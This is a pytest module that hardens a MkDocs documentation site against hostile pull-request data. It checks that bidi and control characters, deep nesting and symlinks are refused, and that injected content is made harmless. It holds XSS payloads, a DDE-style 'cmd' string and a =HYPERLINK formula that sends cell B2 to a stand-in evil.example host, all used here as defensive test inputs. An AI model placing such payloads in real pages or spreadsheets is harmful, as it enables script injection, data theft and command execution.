"""Hostile data, as an outside editor could send it in a pull request.

Each case of ``tests/fixtures/hostile/`` is refused by the check with the
messages of its ``.expected`` file (file, line, column, field); the cases
that cannot be written as a fixture (a NUL byte, 10,000 levels of nesting, a
symbolic link) are made here. What the check would let through, or what gets
past a check one day, comes out harmless: the pages show every string as
text (``hooks/page_text.py``), and the downloads hold values, never formulas,
and stay well-formed, as the libraries and programs readers use open them.
"""

from __future__ import annotations

import copy
import csv
import io
import json
import os
import re
import shutil
import subprocess
import sys
import zipfile
from dataclasses import fields, is_dataclass
from html.parser import HTMLParser
from pathlib import Path
from urllib.parse import urlsplit

import pytest

from hooks.model import Term, Text
from hooks.search_index import read_fragments

from .conftest import LANGUAGES, ROOT, copy_project, data_copy, errors_of, serve, watch

FIXTURES = Path(__file__).parent / "fixtures" / "hostile"




def apply_fixture(root: Path, fixture: Path) -> int:
    """Write ``fixture`` into the data under ``root``; return the line it took.

    Its first line names the file (``# target: data/...``). With a second line
    ``# in place of: <line>``, the rest of the fixture takes the place of the
    first line of the target that reads so (spaces at either end aside);
    otherwise the whole fixture is the file.
    """
    text = fixture.read_text(encoding="utf-8")
    header, rest = text.split("\n", 1)
    target = root / header.split("target:", 1)[1].strip()
    if not rest.startswith("# in place of:"):
        target.parent.mkdir(parents=True, exist_ok=True)
        target.write_text(text, encoding="utf-8")
        return 1
    place, body = rest.split("\n", 1)
    wanted = place.split("in place of:", 1)[1].strip()
    lines = target.read_text(encoding="utf-8").splitlines(keepends=True)
    index = next(i for i, line in enumerate(lines) if line.strip() == wanted)
    lines[index:index + 1] = [body]
    target.write_text("".join(lines), encoding="utf-8")
    return index + 1


# The check refuses them --------------------------------------------------------


@pytest.mark.parametrize("fixture", sorted(FIXTURES.glob("*.yaml")), ids=lambda p: p.stem)
def test_hostile_fixture_gives_expected_messages(tmp_path, fixture):
    root = data_copy(tmp_path)
    line = apply_fixture(root, fixture)
    expected = fixture.with_suffix(".expected").read_text(encoding="utf-8")
    # a line of data/site.yaml moves as strings are added: "{line}" is where it was put
    assert errors_of(root) == expected.replace("{line}", str(line))


def test_raw_characters_give_line_and_column_not_a_reader_error(tmp_path):
    root = data_copy(tmp_path)
    path = root / "data" / "stories" / "informea-second-phase.yaml"
    lines = path.read_text(encoding="utf-8").split("\n")
    lines[0] += "  # \u202e a comment that reads backwards"  # "Trojan Source"
    lines[1] = "id: informea-\x00second-phase"  # a NUL byte
    lines[4] = lines[4].replace("InforMEA", "Infor\x9bMEA")  # a C1 control
    path.write_text("\n".join(lines), encoding="utf-8")
    columns = [lines[0].index("\u202e") + 1, lines[1].index("\x00") + 1,
               lines[4].index("\x9b") + 1]
    assert columns == [68, 14, 13]
    assert errors_of(root) == (
        "data/stories/informea-second-phase.yaml:1:68: bidirectional control U+202E "
        "(RIGHT-TO-LEFT OVERRIDE; it makes text read otherwise than it is) in the file; "
        "remove it\n"
        "data/stories/informea-second-phase.yaml:2:14: control character U+0000 (NUL) in the "
        "file; remove it\n"
        "data/stories/informea-second-phase.yaml:5:13: control character U+009B in the file; "
        "remove it\n"
        "3 errors in the data\n")


DEEP = "nested more than 64 levels deep; the data needs far fewer: check the brackets and " \
       "the indentation"


def test_ten_thousand_levels_of_nesting_give_an_error_not_a_traceback(tmp_path):
    root = data_copy(tmp_path)
    path = root / "data" / "annex-1" / "coordination.yaml"
    path.write_text("id: coordination\nsections: " + "[" * 10_000 + "]" * 10_000 + "\n",
                    encoding="utf-8")
    # the 65th level is the 64th bracket, after "sections: "
    assert errors_of(root) == f"data/annex-1/coordination.yaml:2:74: {DEEP}\n1 error in the data\n"
    # an alias sends the file to the strict reader, which composes by recursion
    path.write_text("sections: " + "{a: " * 10_000 + "1" + "}" * 10_000 + "\nb: &x 1\nc: *x\n",
                    encoding="utf-8")
    # (the 65th level is the key of the 63rd mapping: the root and "sections" come first)
    assert errors_of(root) == (f"data/annex-1/coordination.yaml:1:260: {DEEP}\n"
                               "1 error in the data\n")
    # nesting by indentation
    path.write_text("id: coordination\nsections:\n"
                    + "".join(" " * depth + "- \n" for depth in range(100)), encoding="utf-8")
    assert errors_of(root) == f"data/annex-1/coordination.yaml:66:64: {DEEP}\n1 error in the data\n"
    # and from the command line
    check = subprocess.run([sys.executable, "-m", "hooks.check", "--root", str(root)], cwd=ROOT,
                           capture_output=True, text=True, timeout=120)
    assert check.returncode == 1
    assert check.stderr == f"data/annex-1/coordination.yaml:66:64: {DEEP}\n1 error in the data\n"


def test_a_symbolic_link_is_no_data_file(tmp_path):
    root = data_copy(tmp_path)
    outside = tmp_path / "outside.yaml"
    outside.write_text((root / "data" / "stories" / "informea-second-phase.yaml")
                       .read_text(encoding="utf-8").replace("informea-second-phase", "linked"),
                       encoding="utf-8")
    (root / "data" / "stories" / "linked.yaml").symlink_to(outside)
    assert errors_of(root) == ("data/stories/linked.yaml: is a symbolic link; a data file must "
                               "be a file of its own\n1 error in the data\n")


# Pages: whatever a string holds, it is text ------------------------------------

# What an attacker would write where the check did not look. Each text of the
# data gets one of these in front of it (a text's own links, footnote markers,
# acronyms and citations stay, so that the page keeps its structure). A blank
# line holds a space: a story's body is split into paragraphs at "\n\n".
PAYLOADS = (
    "Intro\n{: onclick=alert(document.domain) }\n \n",
    "*em*{: onmouseover=alert(2) } ",
    "<img src=x onerror=alert(3)> <script>alert(4)</script> ",
    "[click](javascript:alert(5)) [x](http://example.org/) ![i](http://example.org/i.png) ",
    "&lt;b&gt;bold&lt;/b&gt; &#60;i&#62; `code` _under_ \\*stars\\* ",
    "# Heading\n \n- list\n1. numbered\n    indented code\n> quote\n!!! note \"x\"\n---\n",
    "- item ",
    "1. item ",
    "    code ",
    "{#taken .cls} {: .x } ",
    "<!-- a comment --> ]: https://example.org/ [TOC] ",
    "| a | b |\n|---|---|\n| c | d |\n```\nfence\n```\n",
    "=1+2 ",
    "\x01\x1b\ufffe\uffff\ud800\u202e\u2028 ",
    "</title><script>alert(6)</script> &lt;/title&gt;&lt;script&gt;alert(7)&lt;/script&gt; ",
)


def hostile(value, counter=None):
    """A copy of ``value`` (the dataset, or anything in it) with a payload in
    front of every text, site strings included."""
    counter = counter if counter is not None else [0]
    if isinstance(value, Text):
        counter[0] += 1
        payload = PAYLOADS[counter[0] % len(PAYLOADS)]
        return Text({lang: payload + value[lang] for lang in LANGUAGES}, value.pending)
    if is_dataclass(value) and not isinstance(value, type):
        # a glossary term keeps its name, which the texts are searched for
        # (its definition does not)
        changed = {f.name: getattr(value, f.name) if isinstance(value, Term) and f.name == "term"
                   else hostile(getattr(value, f.name), counter) for f in fields(value)}
        if type(value).__dataclass_params__.frozen:
            return type(value)(**changed)
        copied = copy.copy(value)
        for name, item in changed.items():
            setattr(copied, name, item)
        return copied
    if isinstance(value, list):
        return [hostile(item, counter) for item in value]
    if isinstance(value, tuple):
        return tuple(hostile(item, counter) for item in value)
    if isinstance(value, dict):
        return {key: hostile(item, counter) for key, item in value.items()}
    return value


class Structure(HTMLParser):
    """The elements of an HTML page, their attributes and the addresses they
    link, without the text: what data may not change. Also the page's text."""

    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.elements: list[tuple] = []
        self.text: list[str] = []

    def handle_starttag(self, tag, attrs):
        names = sorted(name for name, _ in attrs)
        # links, but a heading's own anchor (its id comes from its text)
        links = sorted((name, value) for name, value in attrs
                       if name in ("href", "src") and not value.startswith("#"))
        self.elements.append((tag, names, links))

    def handle_endtag(self, tag):
        self.elements.append(("/" + tag,))

    def handle_comment(self, data):
        self.elements.append(("<!--", data))

    def handle_data(self, data):
        self.text.append(data)


def structure(html: str) -> Structure:
    parsed = Structure()
    parsed.feed(html)
    return parsed


@pytest.fixture(scope="module")
def to_html():
    """Markdown to HTML with the extensions and settings of the site (mkdocs.yml)."""
    import markdown
    from mkdocs.config import load_config

    config = load_config(str(ROOT / "mkdocs.yml"))

    def convert(page: str) -> str:
        body = page.split("\n---\n", 1)[1] if page.startswith("---\n") else page
        md = markdown.Markdown(extensions=config.markdown_extensions,
                               extension_configs=config.mdx_configs)
        return md.convert(body)

    return convert


def front_matter_title(page: str) -> str:
    import yaml

    return yaml.safe_load(page.split("---\n", 2)[1])["title"]


def test_every_string_of_the_data_reaches_every_page_as_text(dataset, to_html):
    from hooks.pages import render_pages

    templates = ROOT / "overrides" / "pages"
    plain_pages = render_pages(dataset, templates)
    hostile_pages = render_pages(hostile(dataset), templates)
    assert set(plain_pages) == set(hostile_pages) and len(plain_pages) > 70
    shown = []
    for path, page in hostile_pages.items():
        html = to_html(page)
        found, expected = structure(html), structure(to_html(plain_pages[path]))
        # the same elements, attributes and links: the data added no markup
        assert found.elements == expected.elements, path
        shown.append("".join(found.text))
        # a page's title is HTML text for the theme (which prints it as it is)
        title = front_matter_title(page)
        assert "<" not in title and '"' not in title, path
    text = "".join(shown)
    for written in ("{: onclick=alert(document.domain) }", "*em*{: onmouseover=alert(2) }",
                    "<img src=x onerror=alert(3)>", "[click](javascript:alert(5))",
                    "&lt;b&gt;bold&lt;/b&gt; &#60;i&#62; `code` _under_ \\*stars\\*",
                    "# Heading", "- item", "1. item", "{#taken .cls}", "<!-- a comment -->",
                    "| a | b |", "```", "</title><script>alert(6)</script>"):
        assert written in text, written  # shown as written
    assert "\x01" not in text and "\ufffd" in text  # what no file may hold, replaced


# A site built with the check taken out --------------------------------------------

# The data an attacker would send, each string where the issue found it got
# through: site.yaml labels, option texts, a story, an event.
HOSTILE_STORY = r'''# yaml-language-server: $schema=../../schemas/story.schema.json
id: hostile-story
title:
  zh: "标题\x01\x1b"
  en: "&lt;/title&gt;&lt;script&gt;alert(5)&lt;/script&gt; <b>Title</b>"
summary: {zh: "摘要\ufffe", en: "*em*{: onmouseover=alert(6) } [=1+2](https://a.example/) rest"}
body: {zh: "正文。", en: "First \x1b[31m.\n\n<img src=x onerror=alert(7)>\uffff"}
region: {zh: "全球", en: "=HYPERLINK(\"https://evil.example/\",\"Click\")"}
conventions: [cbd]
options: [a1-21-d]
date: "2030"
source: {document: unep-ea-3-17, ref: ea-6}
'''
OPTION_PAYLOADS = (
    ' =HYPERLINK(\\"https://evil.example/?x=\\"&B2,\\"Click\\")',
    "[=1+2](https://a.example/) rest",
    "\\t@SUM(1+1)*cmd|' /C calc'!A0",
    "\\r=2+3",
    "\\u00a0-4+5",
    "#N/A",
    "bad \\x01\\x1b\\ufffe\\uffff\\ud800 end",
)
SITE_PAYLOADS = {  # site strings by key, in English
    "label.table-notes": "*em*{: onmouseover=alert(2) }",
    "download.sheet.cover": "=About [x]: *?/\\\\",  # the name of the XLSX cover sheet
    "checklist.status.done": 'Done\\", =HYPERLINK(\\"https://evil.example/',  # the drop-down
    "checklist.column.option": "@Option",  # a column header
    "stories.feed-title": "Stories\\x0b\\ufffe",  # the feed's title
}


def replace_line(path: Path, wanted: str, line: str) -> None:
    """Put ``line`` in place of the line of ``path`` that reads ``wanted``, at its indentation."""
    lines = path.read_text(encoding="utf-8").splitlines(keepends=True)
    index = next(i for i, text in enumerate(lines) if text.strip() == wanted)
    indent = lines[index][:len(lines[index]) - len(lines[index].lstrip())]
    lines[index] = indent + line + "\n"
    path.write_text("".join(lines), encoding="utf-8")


@pytest.fixture(scope="module")
def hostile_site(tmp_path_factory, dataset):
    """A copy of the project with the hostile data and without the check of
    what text may hold and of characters, built: what the road from data to
    page and the writers of the downloads make of it."""
    project = copy_project(tmp_path_factory.mktemp("hostile"))
    loader = project / "hooks" / "loader.py"
    loader.write_text(loader.read_text(encoding="utf-8") + (
        "\n\n# The test takes the check out: what it would refuse goes on.\n"
        "def check_markup(sources):\n    return []\n\n\n"
        "def check_characters(sources):\n    return []\n\n\n"
        "def check_printable(dataset, files):\n    return []\n"), encoding="utf-8")
    data = project / "data"
    site = data / "site.yaml"
    lines = site.read_text(encoding="utf-8").splitlines()
    for key, value in SITE_PAYLOADS.items():
        at = lines.index(f"  {key}:")
        english = next(i for i in range(at + 1, at + 3) if lines[i].startswith("    en: "))
        lines[english] = f'    en: "{value}"'
    site.write_text("\n".join(lines) + "\n", encoding="utf-8")
    # the key-actions table's summary, which the page shows under its heading
    table = data / "annex-2" / "key-actions.yaml"
    lines = table.read_text(encoding="utf-8").splitlines()
    at = lines.index("summary:")
    english = next(i for i in range(at + 1, at + 3) if lines[i].startswith("  en: "))
    lines[english] = '  en: "Intro\\n{: onclick=alert(document.domain) }"'
    table.write_text("\n".join(lines) + "\n", encoding="utf-8")
    options = dataset.area("coordination").option_items()
    path = data / "annex-1" / "coordination.yaml"
    for item, value in zip(options, OPTION_PAYLOADS):
        replace_line(path, f"en: {json.dumps(item.text['en'], ensure_ascii=False)}",
                     f'en: "{value}"')
    (data / "stories" / "hostile-story.yaml").write_text(HOSTILE_STORY, encoding="utf-8")
    event = dataset.events[0]
    replace_line(data / "events.yaml",
                 f'title: {{zh: "{event.title["zh"]}", en: "{event.title["en"]}"}}',
                 f'title: {{zh: "{event.title["zh"]}", en: "Day\\x01; of, \\\\ \\ufffe"}}')
    env = dict(os.environ, NO_MKDOCS_2_WARNING="1")
    # not strict: what the checks refuse would make MkDocs warn
    result = subprocess.run([sys.executable, "-m", "mkdocs", "build", "--no-strict"],
                            cwd=project, env=env, capture_output=True, text=True, timeout=600)
    assert result.returncode == 0, result.stderr
    assert "Traceback" not in result.stderr
    # nor does the log get a character of the data that a terminal would obey
    assert re.findall(".{0,60}[\x00-\x08\x0b-\x1f\x7f-\x9f]", result.stderr) == []
    return project / "site"


def test_without_the_check_no_script_runs_in_a_browser(hostile_site, browser):
    with serve(hostile_site) as url:
        context = browser.new_context()
        try:
            tab = watch(context.new_page())
            dialogs = []
            tab.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
            for path in ("/en/annex-2/", "/en/annex-2/key-actions/", "/en/stories/",
                         "/en/stories/hostile-story/", "/en/annex-1/coordination/",
                         "/en/calendar/", "/en/"):
                tab.goto(url + path)
                handlers = tab.evaluate("""() => Array.from(document.querySelectorAll('*'))
                    .flatMap((e) => Array.from(e.attributes, (a) => a.name))
                    .filter((name) => name.startsWith('on'))""")
                assert handlers == [], path
                # what the injected handlers waited for: a pointer over, a click on
                # any element of the text (links and buttons aside: they navigate)
                tab.evaluate("""() => {
                    for (const e of document.querySelectorAll('article *')) {
                        for (const kind of ['mouseover', 'mouseenter', 'mousedown', 'mouseup',
                                            'focus', 'dblclick']) {
                            e.dispatchEvent(new MouseEvent(kind, {bubbles: true}));
                        }
                        if (!e.closest('a, button, input, select, textarea, label, summary')) {
                            e.dispatchEvent(new MouseEvent('click', {bubbles: true}));
                        }
                    }
                }""")
                assert tab.url == url + path
                assert tab.locator(
                    'article img, article script:not([type="application/json"])').count() == 0, path
            assert dialogs == [] and tab.errors == []

            tab.goto(url + "/en/annex-2/")
            intro = tab.locator("#key-actions + p").inner_text()
            assert intro.startswith("Intro {: onclick=alert(document.domain) }"), intro
            tab.goto(url + "/en/annex-2/key-actions/")
            assert tab.locator("h2#notes").inner_text().startswith("*em*{: onmouseover=alert(2) }")
            toc = tab.locator('nav.md-nav--secondary a[href="#notes"]').first.inner_text()
            assert toc.strip() == "*em*{: onmouseover=alert(2) }"
            tab.goto(url + "/en/stories/hostile-story/")
            assert tab.title().startswith(
                "&lt;/title&gt;&lt;script&gt;alert(5)&lt;/script&gt; <b>Title</b>")
            assert tab.locator("article h1").inner_text().startswith(
                "&lt;/title&gt;&lt;script&gt;alert(5)&lt;/script&gt; <b>Title</b>")
            assert dialogs == [] and tab.errors == []
            assert tab.hosts <= {urlsplit(url).netloc}
        finally:
            context.close()
    # search finds the heading as its text
    page = next(page for page in read_fragments(hostile_site)
                if page["url"].endswith("/en/annex-2/key-actions/"))
    notes = next(anchor for anchor in page["anchors"] if anchor.get("id") == "notes")
    assert notes["text"] == "*em*{: onmouseover=alert(2) }"


# Its downloads: values, never formulas; well-formed whatever the data -------------

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def soffice() -> str:
    path = shutil.which("soffice")
    if path is None:
        pytest.fail("soffice is missing: install Debian's libreoffice-calc-nogui (see .ci/run)")
    return path


def libreoffice_csv(files: list[Path], out: Path) -> None:
    """Have LibreOffice open ``files`` and save them as CSV (UTF-8) in ``out``:
    a workbook as ``<name>-<sheet>.csv`` for each of its sheets, a CSV file
    (read as UTF-8, formulas evaluated: LibreOffice's defaults) as ``<name>.csv``."""
    command = [soffice(), f"-env:UserInstallation=file://{out / 'profile'}", "--headless"]
    export = "csv:Text - txt - csv (StarCalc):44,34,76,1"
    if files[0].suffix == ".csv":
        command += ["--infilter=CSV:44,34,76,1", "--convert-to", export]
    else:
        command += ["--convert-to", export + ",,0,false,true,false,false,false,-1"]
    subprocess.run(command + ["--outdir", str(out)] + [str(f) for f in files], check=True,
                   capture_output=True, timeout=300)


def read_csv_text(data: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.lstrip("\ufeff"), newline="")))


def trimmed(rows) -> list[list[str]]:
    """Rows without the empty cells at their end, and without empty rows at the end."""
    rows = [[("" if v is None else str(v)) for v in row] for row in rows]
    rows = [row[:max((i + 1 for i, v in enumerate(row) if v), default=0)] for row in rows]
    while rows and not rows[-1]:
        rows.pop()
    return rows


def test_without_the_check_spreadsheets_hold_no_formula(hostile_site, tmp_path):
    from openpyxl import load_workbook

    downloads = hostile_site / "downloads"
    workbooks = sorted(downloads.rglob("*.xlsx"))
    tables = sorted(downloads.rglob("*.csv"))
    assert len(workbooks) >= 18 and len(tables) >= 26
    held: dict[str, list[list[str]]] = {}  # what each sheet holds, as openpyxl reads it
    for path in workbooks:
        with zipfile.ZipFile(path) as archive:
            for name in archive.namelist():
                if name.startswith("xl/worksheets/"):
                    assert "<f>" not in archive.read(name).decode("utf-8"), (path, name)
        for sheet in load_workbook(path).worksheets:
            cells = [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]
            assert all(cell.data_type in ("s", "n") for cell in cells), (path, sheet.title)
            for cell in cells:
                if isinstance(cell.value, str):
                    assert not cell.value.startswith(FORMULA_START), (path, cell.coordinate)
            held[f"{path.parent.name}/{path.stem}-{sheet.title}"] = trimmed(
                sheet.iter_rows(values_only=True))
    # the cells an attacker wrote, made values
    workbook = load_workbook(downloads / "en" / "checklist-coordination.xlsx")
    cover, options = workbook.worksheets
    texts = [row[1] for row in options.iter_rows(min_row=2, values_only=True)]
    assert texts[:7] == [
        "'=HYPERLINK(\"https://evil.example/?x=\"&B2,\"Click\")", "'=1+2 rest",
        "'@SUM(1+1)*cmd|' /C calc'!A0", "'=2+3", "'-4+5", "#N/A",
        "bad \ufffd\ufffd\ufffd\ufffd\ufffd end"]
    assert options.cell(1, 2).value == "'@Option"
    assert cover.title == "=About  x"  # a sheet's name as Excel allows it
    status = next(v for v in options.data_validations.dataValidation if v.type == "list")
    assert status.formula1.startswith('"Not started,Planned,In progress,Done"", =HYPERLINK(""')

    # LibreOffice opens each sheet as the cells say: no formula computed
    for lang in LANGUAGES:
        out = tmp_path / "xlsx" / lang
        libreoffice_csv([path for path in workbooks if path.parent.name == lang], out)
        for name, rows in held.items():
            if name.startswith(f"{lang}/"):
                saved = read_csv_text((out / f"{name[len(lang) + 1:]}.csv")
                                      .read_text(encoding="utf-8"))
                assert trimmed(saved) == rows, name

    # and our CSV files, read with formulas evaluated, keep every such cell as
    # written; a file with a formula shows that LibreOffice would compute it
    control = tmp_path / "control.csv"
    control.write_text("\ufeffa,b\r\n=1+2,x\r\n", encoding="utf-8")
    checked = 0
    for lang in LANGUAGES:
        out = tmp_path / "csv" / lang
        mine = [path for path in tables if path.parent.name == lang]
        libreoffice_csv(mine + [control], out)
        assert read_csv_text((out / "control.csv").read_text(encoding="utf-8"))[1][0] == "3"
        for path in mine:
            ours = read_csv_text(path.read_text(encoding="utf-8"))
            saved = read_csv_text((out / path.name).read_text(encoding="utf-8"))
            assert len(saved) == len(ours), path
            for row, seen_row in zip(ours, saved):
                for value, seen in zip(row, seen_row):
                    assert not value.lstrip().startswith(FORMULA_START), (path, value)
                    if value.startswith("'"):
                        assert seen == value, (path, value, seen)
                        checked += 1
    assert checked >= 20
    rows = read_csv_text((downloads / "en" / "checklist-coordination.csv")
                         .read_text(encoding="utf-8"))
    assert [row[1] for row in rows[1:8]] == texts[:7]


def test_without_the_check_feed_calendar_and_open_data_stay_well_formed(hostile_site):
    import feedparser
    import icalendar

    for lang in LANGUAGES:
        folder = hostile_site / "downloads" / lang
        feed = feedparser.parse((folder / "stories.xml").read_bytes())
        assert not feed.bozo, feed.get("bozo_exception")
        story = next(e for e in feed.entries if e.id.startswith("urn:uuid:")
                     and ("hostile" in e.link))
        if lang == "en":
            assert feed.feed.title == "Stories\ufffd\ufffd"
            assert story.title == "&lt;/title&gt;&lt;script&gt;alert(5)&lt;/script&gt; <b>Title</b>"
            assert story.content[0].value == \
                "First \ufffd[31m.\n\n<img src=x onerror=alert(7)>\ufffd"
        else:
            assert story.title == "标题\ufffd\ufffd"

        data = (folder / "calendar.ics").read_bytes()
        assert all(len(line) <= 75 for line in data.split(b"\r\n"))
        calendar = icalendar.Calendar.from_ical(data)
        summaries = [str(event["SUMMARY"]) for event in calendar.walk("VEVENT")]
        if lang == "en":
            assert "Day\ufffd; of, \\ \ufffd" in summaries

        document = json.loads((folder / "data.json").read_text(encoding="utf-8"))
        stories = {s["id"]: s for s in document["stories"]}
        assert "\x1b" not in json.dumps(stories["hostile-story"], ensure_ascii=False)
        pdf = (folder / "checklist-coordination.pdf").read_bytes()
        assert pdf.startswith(b"%PDF") and pdf.rstrip().endswith(b"%%EOF")

        # the table the web checklist exports from holds the text as the
        # download does, its characters made harmless
        table = json.loads((hostile_site / "assets" / f"checklist-annex-1-{lang}.json")
                           .read_text(encoding="utf-8"))
        text = [key for key, _ in table["columns"]].index("option")
        if lang == "en":
            assert "bad \ufffd\ufffd\ufffd\ufffd\ufffd end" in [row[text] for row in table["rows"]]
